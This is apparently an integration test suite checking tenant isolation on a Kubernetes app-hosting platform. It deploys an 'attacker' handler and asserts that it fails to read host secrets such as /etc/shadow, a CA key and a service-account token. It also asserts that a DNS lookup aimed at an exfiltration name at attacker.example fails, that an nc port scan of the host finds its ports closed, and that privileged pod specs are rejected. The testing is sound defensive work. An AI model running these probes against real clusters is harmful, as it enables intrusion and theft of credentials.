// Attack suite, tenant isolation: tenant code on the real nodes (kubelet + containerd + runc), as an
// attacker deploys it. A handler of account A prints its uid, lists `/`, reads the host's secrets,
// and connects to another account's machine, to the API, the kubelet, PostgreSQL and the outside
// world; every one must fail, while the same handler sees its own files and env and reaches the
// one platform port it needs (the apiserver's Service among what it must not reach), and learns
// from the cluster DNS the cluster's names and nothing else. A pod with no
// NetworkPolicy at all still cannot reach the host but for the apiserver's Service: the nodes'
// firewall holds on its own. And a tenant's own image, pushed to the local registry, runs.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import * as k8s from '@kubernetes/client-node';
import { startIngress, type Ingress } from '../../ingress-auth/server.js';
import { loadConfig } from '../../lib/config.js';
import { createLogger } from '../../lib/logger.js';
import { repoRoot } from '../../lib/paths.js';
import { startTestApi, type TestApi } from '../support/api.js';
import { images } from '../support/images.js';
import { rawRequest } from '../support/raw-request.js';
import { operatorAuthFile } from '../support/registry.js';
import { kubeConfig, kubectl, testNamespace, uniqueName } from '../support/kube.js';
import { assertOwnUserNamespace, hostUidsOfPod } from '../support/user-namespace.js';
import { eventually } from '../support/wait.js';

const domain = 'apps.localhost';
const gateway = '10.244.0.1';

/** The attacker's handler: what it is, what it sees, what it reaches. */
const probeHandler = `import { readdirSync, readFileSync } from 'node:fs';
import net from 'node:net';
import dns from 'node:dns';
const resolver = new dns.promises.Resolver({ timeout: 3000, tries: 1 });
const lookup = async ([kind, name]) => {
  try {
    return kind === 'PTR' ? await resolver.reverse(name) : await resolver.resolve(name, kind);
  } catch (e) {
    return e.code;
  }
};
const attempt = (host, port) => new Promise((resolve) => {
  const s = net.connect({ host, port });
  const t = setTimeout(() => { s.destroy(); resolve('timeout'); }, 3000);
  s.once('connect', () => { clearTimeout(t); s.destroy(); resolve('connected'); });
  s.once('error', (e) => { clearTimeout(t); resolve(e.code); });
});
const read = (p) => { try { readFileSync(p); return 'read'; } catch (e) { return e.code; } };
export default async (req) => {
  const q = new URL(req.url).searchParams;
  const targets = JSON.parse(q.get('connect') ?? '[]');
  const paths = JSON.parse(q.get('read') ?? '[]');
  const names = JSON.parse(q.get('lookup') ?? '[]');
  return {
    uid: process.getuid(), gid: process.getgid(),
    uidMap: readFileSync('/proc/self/uid_map', 'utf8'),
    root: readdirSync('/').sort(),
    caps: readFileSync('/proc/self/status', 'utf8').split('\\n').filter((l) => /^Cap(Eff|Prm|Bnd)/.test(l)),
    reads: Object.fromEntries(paths.map((p) => [p, read(p)])),
    connects: Object.fromEntries(await Promise.all(targets.map(async ([h, p]) => [h + ':' + p, await attempt(h, p)]))),
    lookups: Object.fromEntries(await Promise.all(names.map(async (n) => [n.join(' '), await lookup(n)]))),
    resolvConf: readFileSync('/etc/resolv.conf', 'utf8'),
    mark: process.env.PROBE_MARK ?? null,
    own: readdirSync('/srv/site').sort(),
    site: process.env.SVC_SITE_ROOT,
    tree: readdirSync(process.env.SVC_SITE_ROOT).sort(),
  };
};
`;

interface ProbeAnswer {
  uid: number;
  gid: number;
  uidMap: string;
  root: string[];
  caps: string[];
  reads: Record<string, string>;
  connects: Record<string, string>;
  lookups: Record<string, unknown>;
  resolvConf: string;
  mark: string | null;
  own: string[];
  site: string;
  tree: string[];
}

describe('security: tenant isolation on the real nodes', () => {
  let attacker: TestApi;
  let victim: TestApi;
  let ingress: Ingress;
  const probeApp = uniqueName('probe');
  const victimApp = uniqueName('victim');
  let victimIP: string;
  /** A static site of the victim's: its machine has a control port (content swaps, issue 36). */
  const victimSite = uniqueName('victim-site');
  let victimSiteIP: string;

  const json = async <T>(res: Response, status: number): Promise<T> => {
    const text = await res.text();
    assert.equal(res.status, status, text);
    return JSON.parse(text) as T;
  };
  /** A request through ingress-auth, as a visitor of the app sends it. */
  const via = (app: string, target: string) =>
    rawRequest(ingress.url, target, { headers: { host: `${app}.${domain}` }, timeoutMs: 30_000 });
  const serving = (app: string, target = '/') =>
    eventually(
      `${app} to answer 200 through ingress-auth`,
      async () => {
        const r = await via(app, target);
        return r.status === 200 ? r : undefined;
      },
      { timeoutMs: 90_000, intervalMs: 250 },
    );
  const probe = async (q: {
    connect?: Array<[string, number]>;
    read?: string[];
    lookup?: Array<[string, string]>;
  }): Promise<ProbeAnswer> => {
    const params = new URLSearchParams({
      connect: JSON.stringify(q.connect ?? []),
      read: JSON.stringify(q.read ?? []),
      lookup: JSON.stringify(q.lookup ?? []),
    });
    const r = await via(probeApp, `/api/probe?${params.toString()}`);
    assert.equal(r.status, 200, r.body);
    return JSON.parse(r.body) as ProbeAnswer;
  };

  before(async () => {
    attacker = await startTestApi();
    victim = await startTestApi();
    const config = loadConfig({ SVC_LOG_LEVEL: 'silent', SVC_APPS_DOMAIN: domain }, { exists: () => false });
    ingress = await startIngress({ config, kc: kubeConfig(), log: createLogger('ingress-auth', 'silent'), host: '127.0.0.1', port: 0 });
    await json(await attacker.request('POST', '/api/apps', { body: { name: probeApp } }), 201);
    await json(await attacker.request('PUT', `/api/apps/${probeApp}/env`, { body: { PROBE_MARK: 'own-env-visible' } }), 200);
    await json(
      await attacker.request('POST', `/api/apps/${probeApp}/deploy`, {
        body: {
          files: {
            'api/probe.js': probeHandler,
            'api/id.sh': '#!/bin/sh\nprintf "Content-Type: text/plain\\n\\n"\nid\n',
            'readme.txt': 'mine',
          },
        },
      }),
      202,
    );
    await json(await victim.request('POST', '/api/apps', { body: { name: victimApp } }), 201);
    await json(
      await victim.request('POST', `/api/apps/${victimApp}/deploy`, {
        body: { files: { 'index.html': 'VICTIM', 'api/whoami.js': 'export default (req) => Object.fromEntries(req.headers)\n' } },
      }),
      202,
    );
    await json(await victim.request('POST', '/api/apps', { body: { name: victimSite } }), 201);
    await json(await victim.request('POST', `/api/apps/${victimSite}/deploy`, { body: { files: { 'index.html': 'VICTIM SITE' } } }), 202);
    await serving(victimApp);
    await serving(victimSite);
    await serving(probeApp, '/api/probe');
    const ipOf = async (app: string) => {
      const pods = await kubeConfig()
        .makeApiClient(k8s.CoreV1Api)
        .listNamespacedPod({ namespace: victim.account.namespace, labelSelector: `svc.dev/app=${app}` });
      return pods.items.find((p) => p.status?.podIP)!.status!.podIP!;
    };
    victimIP = await ipOf(victimApp);
    victimSiteIP = await ipOf(victimSite);
  });
  after(async () => {
    await ingress?.close();
    await attacker?.close();
    await victim?.close();
  });

  it('runs tenant code as uid 1000 with no capabilities, in its own root without the host’s files', async () => {
    const a = await probe({});
    assert.equal(a.uid, 1000);
    assert.equal(a.gid, 1000);
    for (const line of a.caps) assert.match(line, /:\s+0000000000000000$/, line);
    assert.ok(!a.root.includes('work'), `the host’s /work is not there (root: ${a.root.join(' ')})`);
    const shell = await via(probeApp, '/api/id');
    assert.match(shell.body, /^uid=1000\(app\) gid=1000\(app\)/, shell.body);
  });

  it('runs tenant code in a user namespace of its own: its uids are unprivileged high IDs on the node', async () => {
    const a = await probe({});
    assertOwnUserNamespace(a.uidMap);
    // And as the node sees them: every process of the probe's machines is a high uid, not 1000.
    const pods = await kubeConfig()
      .makeApiClient(k8s.CoreV1Api)
      .listNamespacedPod({ namespace: attacker.account.namespace, labelSelector: `svc.dev/app=${probeApp}` });
    assert.ok(pods.items.length > 0);
    for (const pod of pods.items) {
      assert.equal(pod.spec?.hostUsers, false);
      const uids = await hostUidsOfPod(pod.metadata!.uid!);
      assert.ok(uids.length > 0 && uids.every((u) => u >= 65536), `${pod.metadata!.name}: host uids ${uids.join(', ')}`);
    }
  });

  it('reads nothing of the host: the owner token, the CA key, the PostgreSQL socket, the state directory', async () => {
    const state = path.join(repoRoot, '.svc');
    const targets = [
      path.join(state, 'owner-token'),
      path.join(state, 'pki/ca.key'),
      path.join(state, 'artifact-key'),
      '/var/run/postgresql/.s.PGSQL.5432',
      '/etc/shadow',
      '/var/run/secrets/kubernetes.io/serviceaccount/token',
    ];
    const a = await probe({ read: targets });
    for (const t of targets) assert.notEqual(a.reads[t], 'read', `${t} must not be readable (got ${a.reads[t]})`);
    assert.equal(a.reads[path.join(state, 'owner-token')], 'ENOENT');
    assert.equal(a.reads['/var/run/secrets/kubernetes.io/serviceaccount/token'], 'ENOENT', 'no service-account token');
  });

  it('sees its own files and its own env', async () => {
    const a = await probe({});
    // The site root: the marker of the digest in place, the revisions kept (no order taken yet).
    assert.deepEqual(a.own, ['.svc-artifact', 'revs']);
    // Its own revision's tree is where its process runs from, with the marker and the verified
    // archive the runtime rebuilds it from (never served).
    assert.match(a.site, /^\/srv\/site\/revs\/[0-9a-f]{64}$/);
    assert.deepEqual(a.tree, ['.svc-archive', '.svc-artifact', 'api', 'readme.txt']);
    assert.equal(a.mark, 'own-env-visible');
  });

  it('reaches no other account’s machine, nor the API, the kubelet, PostgreSQL, the registry or the outside; only the machine port', async () => {
    const apiPort = Number(new URL(attacker.url).port);
    const machinePort = attacker.deps.config.api.machinePort;
    const a = await probe({
      connect: [
        [victimIP, 8080],
        // Another account's control port: no order, signed or not, reaches it from here.
        [victimSiteIP, 9099],
        [gateway, apiPort],
        [gateway, 8080],
        [gateway, 6443],
        [gateway, 10250],
        [gateway, 55432],
        [gateway, 5000],
        ['10.96.0.1', 443],
        ['1.1.1.1', 80],
        [gateway, machinePort],
      ],
    });
    for (const [target, result] of Object.entries(a.connects)) {
      if (target === `${gateway}:${machinePort}`) assert.equal(result, 'connected', 'the machine listener is reachable');
      else assert.notEqual(result, 'connected', `${target} must not be reachable (got ${result})`);
    }
    // Refused at once (a reset), not left to time out.
    assert.equal(a.connects[`${victimIP}:8080`], 'ECONNREFUSED');
    assert.equal(a.connects[`${victimSiteIP}:9099`], 'ECONNREFUSED');
    assert.equal(a.connects[`${gateway}:${apiPort}`], 'ECONNREFUSED');
  });

  it('resolves the cluster’s names and learns nothing else from the cluster DNS: no reverse names, no wildcards, no way out', async () => {
    const core = kubeConfig().makeApiClient(k8s.CoreV1Api);
    const serviceOf = async (namespace: string, app: string) =>
      (await core.listNamespacedService({ namespace, labelSelector: `svc.dev/app=${app}` })).items[0]!;
    const own = await serviceOf(attacker.account.namespace, probeApp);
    const theirs = await serviceOf(victim.account.namespace, victimApp);
    const a = await probe({
      lookup: [
        ['A', `${own.metadata!.name!}.${attacker.account.namespace}.svc.cluster.local`],
        ['A', 'kubernetes.default.svc.cluster.local'],
        // A PTR of the victim's Service or machine would name its account's namespace and its app.
        ['PTR', theirs.spec!.clusterIP!],
        ['PTR', victimIP],
        ['A', `${victimIP.replaceAll('.', '-')}.${victim.account.namespace}.pod.cluster.local`],
        ['A', '*.*.svc.cluster.local'],
        ['A', `any.${victim.account.namespace}.svc.cluster.local`],
        ['SRV', `_tcp.*.${victim.account.namespace}.svc.cluster.local`],
        // DNS as a way out of a cluster the machine has no way out of: nothing is forwarded.
        ['A', 'example.com'],
        ['TXT', 'exfiltrate.attacker.example'],
      ],
    });
    assert.match(a.resolvConf, /^nameserver \d+\.\d+\.\d+\.10$/m, a.resolvConf);
    const answer = (kind: string, name: string) => a.lookups[`${kind} ${name}`];
    assert.deepEqual(answer('A', `${own.metadata!.name!}.${attacker.account.namespace}.svc.cluster.local`), [own.spec!.clusterIP]);
    assert.deepEqual(answer('A', 'kubernetes.default.svc.cluster.local'), ['10.96.0.1']);
    for (const [query, result] of Object.entries(a.lookups).slice(2)) {
      assert.equal(typeof result, 'string', `${query} must not be answered (got ${JSON.stringify(result)})`);
      assert.notEqual(result, 'ETIMEOUT', `${query} is answered at once, not left to time out`);
    }
  });

  it('leaves the victim served through ingress-auth, and the host reaching it', async () => {
    const r = await via(victimApp, '/');
    assert.equal(r.status, 200);
    assert.equal(r.body, 'VICTIM');
  });

  it('keeps a pod with no policy at all off the host: the nodes’ firewall holds on its own', async () => {
    const core = kubeConfig().makeApiClient(k8s.CoreV1Api);
    const ns = await testNamespace(core, 'nopolicy');
    try {
      await core.createNamespacedPod({
        namespace: ns.name,
        body: {
          metadata: { name: 'loose' },
          spec: {
            restartPolicy: 'Never',
            automountServiceAccountToken: false,
            containers: [
              {
                name: 'main',
                image: images.busybox,
                // The apiserver is reachable as on any cluster, through the `kubernetes` Service (the
                // chart's components are such pods), and only so: its port on the host stays closed.
                command: [
                  'sh',
                  '-c',
                  `for p in 6443 8080 10250 55432 5000; do if echo | nc -w 2 ${gateway} $p >/dev/null 2>&1; then echo "$p open"; else echo "$p closed"; fi; done; if echo | nc -w 2 10.96.0.1 443 >/dev/null 2>&1; then echo "kubernetes open"; else echo "kubernetes closed"; fi`,
                ],
              },
            ],
          },
        },
      });
      await eventually(
        'the pod to finish',
        async () => (await core.readNamespacedPod({ name: 'loose', namespace: ns.name })).status?.phase === 'Succeeded',
        { timeoutMs: 60_000 },
      );
      const log = await core.readNamespacedPodLog({ name: 'loose', namespace: ns.name });
      assert.equal(log, '6443 closed\n8080 closed\n10250 closed\n55432 closed\n5000 closed\nkubernetes open\n');
    } finally {
      await ns.dispose();
    }
  });

  it('refuses a pod that asks for root or the host in an account namespace (Pod Security Admission, restricted)', async () => {
    const core = kubeConfig().makeApiClient(k8s.CoreV1Api);
    for (const [what, spec] of [
      ['root', { securityContext: { runAsUser: 0 }, containers: [{ name: 'c', image: images.busybox }] }],
      [
        'hostPath',
        {
          volumes: [{ name: 'h', hostPath: { path: '/' } }],
          containers: [{ name: 'c', image: images.busybox, volumeMounts: [{ name: 'h', mountPath: '/host' }] }],
        },
      ],
      ['hostNetwork', { hostNetwork: true, containers: [{ name: 'c', image: images.busybox }] }],
      ['privileged', { containers: [{ name: 'c', image: images.busybox, securityContext: { privileged: true } }] }],
    ] as Array<[string, k8s.V1PodSpec]>) {
      await assert.rejects(
        core.createNamespacedPod({
          namespace: attacker.account.namespace,
          body: { metadata: { name: `evil-${what.toLowerCase()}` }, spec },
        }),
        (err: unknown) => {
          assert.equal((err as { code?: number }).code, 403, `${what}: ${String(err)}`);
          assert.match(
            (JSON.parse(String((err as { body?: unknown }).body)) as { message: string }).message,
            /violates PodSecurity "restricted:latest"/,
          );
          return true;
        },
      );
    }
  });

  it('runs a tenant’s own image pushed to the local registry, answering 200 through ingress-auth', async () => {
    const work = mkdtempSync(path.join(tmpdir(), 'svc-own-image-'));
    const ref = `${images.registry}/tenant/hello:${uniqueName('v')}`;
    try {
      // Built as a tenant's CI would, without a daemon: the node base, one layer with a tiny server.
      const layout = path.join(work, 'oci');
      // The local registry stands for a registry the tenant may push to: with the operator's
      // credential, the only one that pushes outside builds' repositories here.
      const skopeoEnv = { ...process.env, REGISTRY_AUTH_FILE: operatorAuthFile };
      execFileSync('skopeo', ['copy', '--quiet', '--src-tls-verify=false', `docker://${images.node}`, `oci:${layout}:hello`], {
        env: skopeoEnv,
      });
      mkdirLayer(
        path.join(work, 'layer'),
        'srv/server.js',
        "require('http').createServer((q, s) => s.end('hello from my own image')).listen(Number(process.env.PORT));\n",
      );
      execFileSync('tar', ['-C', path.join(work, 'layer'), '-cf', path.join(work, 'layer.tar'), '.']);
      execFileSync('umoci', ['raw', 'add-layer', '--image', `${layout}:hello`, path.join(work, 'layer.tar')]);
      execFileSync('umoci', [
        'config',
        '--image',
        `${layout}:hello`,
        '--clear=config.cmd',
        '--config.cmd',
        'node',
        '--config.cmd',
        '/srv/server.js',
      ]);
      execFileSync('skopeo', ['copy', '--quiet', '--dest-tls-verify=false', `oci:${layout}:hello`, `docker://${ref}`], { env: skopeoEnv });
    } finally {
      rmSync(work, { recursive: true, force: true });
    }
    const app = uniqueName('own');
    await json(await attacker.request('POST', '/api/apps', { body: { name: app } }), 201);
    await json(await attacker.request('POST', `/api/apps/${app}/deploy`, { body: { image: ref, port: 8080 } }), 202);
    const r = await serving(app);
    assert.equal(r.body, 'hello from my own image');
    // kubectl exec into the machine works, and shows the same isolation.
    const pod = (
      await kubectl('get', 'pods', '-n', attacker.account.namespace, '-l', `svc.dev/app=${app}`, '-o', 'jsonpath={.items[0].metadata.name}')
    ).trim();
    assert.equal((await kubectl('exec', '-n', attacker.account.namespace, pod, '--', 'id', '-u')).trim(), '1000');
  });
});

function mkdirLayer(root: string, file: string, body: string): void {
  execFileSync('mkdir', ['-p', path.dirname(path.join(root, file))]);
  writeFileSync(path.join(root, file), body);
}
